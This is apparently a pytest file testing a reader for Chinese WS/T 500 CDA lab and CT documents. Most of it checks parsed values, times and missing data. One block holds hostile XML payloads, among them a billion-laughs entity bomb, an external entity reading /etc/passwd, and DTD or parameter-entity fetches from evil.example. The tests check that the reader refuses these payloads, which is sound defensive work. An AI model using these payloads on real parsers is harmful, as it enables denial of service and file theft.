"""Reading WS/T 500 CDA lab and exam documents, and refusing hostile XML."""

from __future__ import annotations

import time
from datetime import datetime, timedelta, timezone
from zoneinfo import ZoneInfo

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from mutrec.errors import ArgumentError, MutrecError, ResultError
from mutrec.interop import CdaRoots, read_cda
from mutrec.model.devices import Modality
from mutrec.model.results import ImagingResult, LabResult
from tests.interop.cda_cases import (
    EXAM_CT,
    LAB_CLUSTERS,
    LAB_FLAT_ONE,
    LAB_FLAT_TWO,
    LAB_XDLAB,
    cluster,
    document,
    item,
    quantity,
    section,
)

SH = ZoneInfo("Asia/Shanghai")
CHINA = timezone(timedelta(hours=8))


def test_c0007_clusters() -> None:
    reading = read_cda(LAB_CLUSTERS, source="lab.xml")
    assert [r.item for r in reading.results] == ["LIS-0101", "LIS-0102"]
    k, na = reading.results
    assert isinstance(k, LabResult)
    assert (k.value.value, str(k.value.unit), k.specimen) == (4.1, "mmol/L", "血清")  # type: ignore[union-attr]
    assert k.collected == datetime(2024, 3, 1, 8, tzinfo=CHINA)
    assert k.received == datetime(2024, 3, 1, 8, 30, tzinfo=CHINA)
    assert k.reported == datetime(2024, 3, 1, 11, tzinfo=CHINA)
    assert (k.issuer, k.patient) == ("BJ001", "2.16.156.10011.1.3|450102199001011234")
    assert (na.value.comparator, na.value.value) == ("<", 100.0)  # type: ignore[union-attr]
    assert [e.abnormal for e in reading.evidence] == ["normal", "abnormal"]
    assert reading.evidence[0].report == "L-2024-0001"
    assert reading.evidence[0].unknown == ("reference_range", "item_name")
    assert k.reference_range is None
    messages = [p.message for p in reading.problems]
    assert len(messages) == 2
    assert "value is missing" in messages[0]
    assert "no specimen collection time" in messages[1]
    assert reading.flags == ()


def test_c0007_flat_siblings() -> None:
    reading = read_cda(LAB_FLAT_ONE)
    assert reading.complete
    assert reading.results[0].value.value == 4.1  # type: ignore[union-attr]
    assert reading.results[0].reported is None  # a date only: flagged, not guessed
    assert "date without a time" in reading.flags[0].message
    two = read_cda(LAB_FLAT_TWO)
    assert two.results == ()
    assert len(two.problems) == 2
    assert all("cannot be paired" in p.message for p in two.problems)


def test_xd_lab_battery() -> None:
    reading = read_cda(LAB_XDLAB)
    k, hbsag = reading.results
    assert isinstance(k, LabResult)
    assert (k.item, k.loinc, k.value.value) == ("2823-3", "2823-3", 4.1)  # type: ignore[union-attr]
    assert k.reference_range is not None
    assert (k.reference_range.low, k.reference_range.high) == (3.5, 5.3)
    assert k.collected.utcoffset() == timedelta(hours=-5)  # read as written …
    assert any("-0500" in f.message for f in reading.flags)  # … and flagged
    assert hbsag.value.polarity.name == "NEGATIVE"  # type: ignore[union-attr]
    assert reading.evidence[0].abnormal == "normal"
    assert reading.evidence[0].item_name == "Potassium"
    assert len(reading.problems) == 1
    assert "has no value" in reading.problems[0].message


def test_c0006_ct_report() -> None:
    reading = read_cda(EXAM_CT)
    assert reading.complete, reading.problems
    (ct,) = reading.results
    assert isinstance(ct, ImagingResult)
    assert (ct.item, ct.modality, ct.report_text) == ("CT-CHEST", Modality.CT, "胸部CT平扫未见异常")
    assert ct.performed == datetime(2024, 3, 1, 9, tzinfo=CHINA)
    assert (ct.body_part, ct.study_uid, ct.device) == (None, None, None)
    assert reading.evidence[0].unknown == ("modality_code", "body_part", "study_uid", "device")
    assert reading.evidence[0].report == "E-2024-0009"


def test_vendor_roots_and_missing_header_facts() -> None:
    vendor = document(section(cluster(item("K"), quantity("4", "mmol/L"))),
                      org_root="1.2.156.112636.1.5")  # fmt: skip
    assert "no organisation id" in read_cda(vendor).problems[0].message
    reading = read_cda(vendor, roots=CdaRoots(organisation="1.2.156.112636.1.5"))
    assert reading.complete
    assert reading.results[0].issuer == "BJ001"
    mapped = read_cda(vendor, roots=CdaRoots(organisation="1.2.156.112636.1.5"),
                      issuer={"BJ001": "H-1"})  # fmt: skip
    assert mapped.results[0].issuer == "H-1"
    zeros = document(section(cluster(item("K"), quantity("4", "mmol/L"))),
                     id_card="000000000000000000")  # fmt: skip
    # the ID card is all zeros: the outpatient number is the patient then
    assert read_cda(zeros).results[0].patient == "2.16.156.10011.1.11|MZ-778"
    other = document(section(cluster(item("K"), quantity("4", "mmol/L"))), code="C0001")
    assert "not a WS/T 500 lab" in read_cda(other.replace(".1.1.26", ".1.1.99")).problems[0].message


def test_times_without_offset_need_a_zone() -> None:
    doc = document(section(cluster(item("K", low="20240301080000"), quantity("4", "mmol/L"))))
    assert "no offset" in read_cda(doc).problems[0].message
    reading = read_cda(doc, default_zone=SH)
    assert reading.results[0].collected == datetime(2024, 3, 1, 8, tzinfo=SH)  # type: ignore[union-attr]
    bad = document(section(cluster(item("K", low="20241301080000+0800"), quantity("4", "mmol/L"))))
    assert "calendar" in read_cda(bad).problems[0].message


BOMB = (
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(f'<!ENTITY lol{n} "{("&lol" + str(n - 1) + ";") * 10}">' for n in range(2, 10))
    + "]><lolz>&lol9;</lolz>"
).replace("&lol1;", "&lol;")
HOSTILE = {
    "billion laughs": BOMB,
    "external entity": '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
    "external DTD": '<!DOCTYPE a SYSTEM "http://evil.example/a.dtd"><a/>',
    "parameter entity": '<!DOCTYPE a [<!ENTITY % p SYSTEM "http://evil.example/p">%p;]><a/>',
    "undeclared entity": "<ClinicalDocument>&x;</ClinicalDocument>",
    "100 MB text": "<ClinicalDocument>" + "x" * (100 * 1024 * 1024) + "</ClinicalDocument>",
    "deep": "<a>" * 10_000 + "</a>" * 10_000,
    "not xml": "{}",
    "not a CDA": "<html/>",
}


@pytest.mark.parametrize("name", list(HOSTILE))
def test_hostile_xml_is_refused_fast(name: str) -> None:
    data = HOSTILE[name]
    start = time.process_time()
    with pytest.raises(ResultError):
        read_cda(data)
    with pytest.raises(ResultError):
        read_cda(data.encode() if name != "100 MB text" else data[:100].encode() + b"\xff")
    # Not a timing assertion: a bound that only an expansion or a full read would break.
    assert time.process_time() - start < 5


def test_bad_arguments() -> None:
    with pytest.raises(ArgumentError):
        read_cda({"x": 1})  # type: ignore[arg-type]
    with pytest.raises(ArgumentError):
        read_cda(EXAM_CT, roots="x")  # type: ignore[arg-type]
    with pytest.raises(ArgumentError):
        read_cda(EXAM_CT, issuer=3)  # type: ignore[arg-type]


NASTY = st.one_of(
    st.text(max_size=30),
    st.sampled_from(["NA", "/", "", "小于", "大于-1e999", "1e999", "nan", "＜０.１", "0" * 30,
                     "-", "阳性", "4,1", "1-3", "\u0000", "&amp;", "<![CDATA[x]]>", "٣"]),
)  # fmt: skip


def _escape(text: str) -> str:
    return (
        text.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;").replace(">", "&gt;")
    )


@settings(max_examples=150, deadline=None)
@given(value=NASTY, unit=NASTY, low=NASTY, code=NASTY)
def test_nasty_values_give_results_or_problems(value: str, unit: str, low: str, code: str) -> None:
    doc = document(section(cluster(
        item(_escape(code), low=_escape(low)), quantity(_escape(value), _escape(unit)),
    )))  # fmt: skip
    try:
        reading = read_cda(doc, default_zone=SH)
    except MutrecError:
        return  # a control character XML cannot hold: the document is refused as a whole
    assert len(reading.results) + len(reading.problems) >= 1


def test_what_the_standard_lacks_is_decided_fail_safe() -> None:
    from mutrec import ClinicalContext, Policy, load_example_region

    policy = Policy.from_region(load_example_region())
    (ct,) = read_cda(EXAM_CT).results
    decision = policy.evaluate(
        ct,
        receiver="BJ002",
        at=datetime(2024, 3, 2, 9, tzinfo=CHINA),
        context=ClinicalContext(patient=ct.patient),
    )
    # No body part, device or study UID in the template: not recognised, and the reasons say why.
    assert not decision.outcome.recognised
    assert {f.code for f in decision.findings} == {
        "imaging.no_body_part",
        "imaging.no_device",
        "imaging.no_images",
    }


def test_roots_are_checked() -> None:
    with pytest.raises(ArgumentError):
        CdaRoots(patient="2.16.156.10011.1.3")  # a string is not a list of roots
    with pytest.raises(ArgumentError):
        CdaRoots(organisation=None)  # type: ignore[arg-type]
